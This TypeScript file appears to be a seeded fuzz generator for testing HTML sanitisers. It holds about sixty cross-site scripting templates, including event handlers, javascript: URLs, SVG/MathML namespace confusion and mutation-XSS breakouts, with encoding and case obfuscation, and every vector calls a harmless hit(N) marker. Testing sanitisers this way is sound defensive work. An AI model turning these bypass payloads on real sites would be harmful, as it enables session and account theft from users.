/* Markup that tries to act, made from what is known to have worked somewhere and from what sanitisers stumble over. */

const calls = ['hit(N)', 'hit`N`', '&#104;it(N)', 'self["hit"](N)', 'setTimeout("hit(N)")']
const starts = ['onerror', 'onload', 'onfocus', 'onmouseover', 'onclick', 'ontoggle', 'onbegin', 'onanimationstart']
const gaps = [' ', '/', '\n', '\t', '\f', ' / ', '\u0000 ', ' x=">" ']
const quotes = ['"', "'", '']

/** `C` is what is called, `H` a handler, `_` a gap, `Q` a quote. */
const vectors = [
  '<img_src=x_H=QCQ>',
  '<img_src=x_onerror=QCQ>',
  '<img src="media:1" onerror=QCQ>',
  '<img src="media:1\'onerror=C x=\'" alt="x">',
  '<svg_onload=QCQ>',
  '<svg><script>C</script></svg>',
  '<svg><script href="data:,C"/></svg>',
  '<svg><style><img src=x onerror=C></style></svg>',
  '<svg><animate_onbegin=QCQ_attributeName=x_dur=1s></svg>',
  '<svg><a xlink:href="javascript:C"><rect width="9" height="9"/></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:C"/><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>C</script></svg>#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=C></foreignObject></svg>',
  '<svg><desc><![CDATA[</desc><img src=x onerror=C>]]></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=C>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=C&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=C></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=C>',
  '<script>C</script>',
  '<scr<script>ipt>C</scr</script>ipt>',
  '<script_src="data:,C"></script>',
  '<iframe srcdoc="<script>parent.C</script>"></iframe>',
  '<iframe_src=QjavascriptCOLONparent.CQ></iframe>',
  '<object data="data:text/html,<script>parent.C</script>"></object>',
  '<embed src="javascript:C">',
  '<a_href=QjavascriptCOLONCQ>x</a>',
  '<a href="java&#10;script:C">x</a>',
  '<a href="&#1;javascript:C">x</a>',
  '<a href="JaVaScRiPt&colon;C">x</a>',
  '<a href="javascript:C" target="_self" rel="x">x</a>',
  '<a href="#"_H=QCQ>x</a>',
  '<a href="content:1&quot; onclick=&quot;C">x</a>',
  '<details open_ontoggle=QCQ><summary>x</summary></details>',
  '<input autofocus_onfocus=QCQ>',
  '<h2 id="x" tabindex=0_H=QCQ>x</h2>',
  '<h2 id="&quot; onclick=&quot;C">x</h2>',
  '<p_H=QCQ style="animation:a">x</p>',
  '<td colspan="1&quot; onclick=&quot;C">x</td>',
  '<time datetime="1&quot;onmouseover=&quot;C">x</time>',
  '<video><source onerror=QCQ></video>',
  '<video src=x_onerror=QCQ></video>',
  '<body onload=QCQ>',
  '<base href="javascript:C//">',
  '<meta http-equiv=refresh content="0;url=javascript:C">',
  '<link rel=stylesheet href="data:text/css,*{x:y}" onload=QCQ>',
  '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart=QCQ></xss>',
  '<noscript><p title="</noscript><img src=x onerror=C>">',
  '<title><img title="</title><img src=x onerror=C>"></title>',
  '<textarea><img title="</textarea><img src=x onerror=C>"></textarea>',
  '<xmp><img title="</xmp><img src=x onerror=C>"></xmp>',
  '<!--><img src=x onerror=C>-->',
  '<!--<img src="--><img src=x onerror=C>">',
  '<![CDATA[><img src=x onerror=C>]]>',
  '<?xml-stylesheet ><img src=x onerror=C> ?>',
  '<template><img src=x onerror=C></template>',
  '<button formaction="javascript:C">x</button>',
  '&lt;img src=x onerror=C&gt;',
  '<p title="<img src=x onerror=C>">x</p>',
]

const wraps: readonly ((inside: string) => string)[] = [
  (inside) => inside,
  (inside) => `<p>${inside}</p>`,
  (inside) => `<table><tr><td>${inside}</td></tr></table>`,
  (inside) => `<ul><li>${inside}`,
  (inside) => `<blockquote cite="${inside}">${inside}</blockquote>`,
  (inside) => `<select><option>${inside}</select>`,
  (inside) => `<svg>${inside}</svg>`,
  (inside) => `<a href="/x">${inside}</a>`,
  (inside) => `</div></p>${inside}`,
]

/** The same for the same seed. Each calls `hit` with its own number, from 0. */
export function hostileMarkup(count: number, seed: number): string[] {
  const random = mulberry(seed)
  const one = <Value>(of: readonly Value[]): Value => of[Math.floor(random() * of.length)] as Value // of is never empty
  return Array.from({ length: count }, (_, number) => {
    const vector = vectors[number % vectors.length] ?? ''
    const quote = one(quotes)
    const call = one(calls).replace('N', String(number))
    const filled = vector
      .replaceAll('_', () => one(gaps))
      .replaceAll('COLON', () => one([':', '&colon;', '&#58;', '\t:']))
      .replaceAll('H=', () => `${one(starts)}=`)
      .replaceAll('Q', quote)
      .replaceAll('C', (_letter, at: number, whole: string) => (/[A-Z]/.test(whole[at + 1] ?? '') ? 'C' : call))
    const cased = random() < 0.3 ? filled.replaceAll(/<\w+/g, (tag) => mixedCase(tag, random)) : filled
    return one(wraps)(cased)
  })
}

const mixedCase = (text: string, random: () => number): string =>
  text.replaceAll(/[a-z]/g, (letter) => (random() < 0.5 ? letter.toUpperCase() : letter))

/** Numbers from 0 to 1, the same for the same seed. */
function mulberry(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
  }
}
